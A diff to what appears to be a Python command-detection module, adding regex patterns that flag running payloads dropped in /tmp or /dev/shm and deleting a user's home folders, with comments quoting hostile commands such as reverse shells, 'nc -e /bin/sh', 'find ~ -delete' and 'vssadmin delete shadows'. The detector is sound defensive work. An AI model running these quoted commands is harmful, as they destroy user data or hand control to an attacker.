@@ -231,6 +231,37 @@ _DOWNLOAD_EXECUTE = (
     ),
 )
 
+# Running a binary dropped in a scratch folder: `chmod +x /tmp/.x &&
+# /tmp/.x`, `nohup /dev/shm/k &`, `sh /var/tmp/u`, `start %TEMP%\u.exe`.
+# Scratch folders are where a payload is written to run once; installers put
+# binaries on the PATH or in the project. Must not catch: `curl -LO URL &&
+# chmod +x kubectl` (an install), `ls /tmp/x`, `rm -rf /tmp/cache`, a
+# `/tmp/out.json` output path.
+_SCRATCH = (
+    r"[\"']?(?:/tmp|/var/tmp|/dev/shm|\$\{?TMPDIR\}?|%TEMP%|%TMP%|%APPDATA%|\$env:TEMP)"
+    r"[/\\][^\s;&|'\"]{1,80}"
+)
+_RUN_DROPPED = (
+    _gated(
+        "download-execute",
+        rf"\bchmod\s+(?:[ugoa]*\+[rw]*x|[0-7]?[0-7]?[1357][0-7]{{2}})\s+{_SCRATCH}[^\n]{{0,40}}?"
+        rf"(?:&&|;|\|\|)\s*(?:nohup\s+|exec\s+|setsid\s+|\./)?{_SCRATCH}",
+        "chmod",
+    ),
+    _gated(
+        "download-execute",
+        rf"\b(?:nohup|setsid|exec|start(?:\s+/b)?|(?:ba|z|da)?sh)\s+{_SCRATCH}",
+        "nohup",
+        "setsid",
+        "exec",
+        "start",
+        "sh",
+        "bash",
+        "zsh",
+        "dash",
+    ),
+)
+
 # Reverse shells: a shell whose input and output go to a remote socket.
 # Catches `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `ncat --exec`,
 # `mkfifo f; sh -i < f | nc h p > f`, `socat TCP:h:p EXEC:sh`, `python -c`
@@ -299,7 +330,17 @@ _ENCODED_POWERSHELL = (
 # `shred /dev/sda`, `format C: /q`, `del /f /s /q C:\`, `rd /s /q C:\`,
 # `Remove-Item -Recurse -Force C:\`, `vssadmin delete shadows`. Must not
 # catch: `rm -rf ./build`, `rm -rf /tmp/cache`, `rm file`, `dd of=disk.img`.
-_RM_TARGET = r"(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*)(?=$|[\s;&|\"'`)])"
+_HOME = r"(?:~|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|/home/[\w.-]{1,32}|/Users/[\w.-]{1,32})"
+# The user's own folders: deleting them is destroying the user's work,
+# whatever the rest of the disk. Caches and build output are not in it.
+_USER_FOLDER = (
+    r"(?:Documents|Desktop|Downloads|Pictures|Photos|Music|Movies|Videos|Projects?|"
+    r"src|code|repos|workspace|Dropbox|OneDrive|\.ssh|\.gnupg|\.config|Library)"
+)
+_RM_TARGET = (
+    r"(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*"
+    rf"|[\"']?{_HOME}[/\\]{_USER_FOLDER}[/\\]?\*?[\"']?)(?=$|[\s;&|\"'`)])"
+)
 _DESTRUCTIVE = (
     _gated(
         "destructive",
@@ -340,6 +381,23 @@ _DESTRUCTIVE = (
         "remove-item",
     ),
     _gated("destructive", r"\bvssadmin(?:\.exe)?\s+delete\s+shadows\b", "vssadmin"),
+    # `find ~ -delete`, `find $HOME/Documents -type f -delete`: the user's files.
+    _gated(
+        "destructive",
+        rf"\bfind\s+[\"']?(?:~/?|\$\{{?HOME\}}?/?|{_HOME}[/\\]{_USER_FOLDER})[\"']?\s"
+        r"[^\n|;]{0,120}?-delete\b",
+        "find",
+    ),
+    # `del /s /q %USERPROFILE%\Documents`, `Remove-Item -Recurse $HOME\Desktop`.
+    _gated(
+        "destructive",
+        rf"\b(?:del|erase|rd|rmdir)\s+(?:/[a-z]\s+){{1,5}}[\"']?{_HOME}(?:[/\\]{_USER_FOLDER})?"
+        r"[\\/]?\*?[\"']?(?=$|[\s;&|])",
+        "del",
+        "erase",
+        "rd",
+        "rmdir",
+    ),
 )
 
 # Files whose content is a credential: SSH private keys and the ~/.ssh
@@ -487,6 +545,7 @@ _COLLECTION_HOST = (
 
 _PATTERNS = (
     *_DOWNLOAD_EXECUTE,
+    *_RUN_DROPPED,
     *_REVERSE_SHELL,
     *_ENCODED_POWERSHELL,
     *_DESTRUCTIVE,
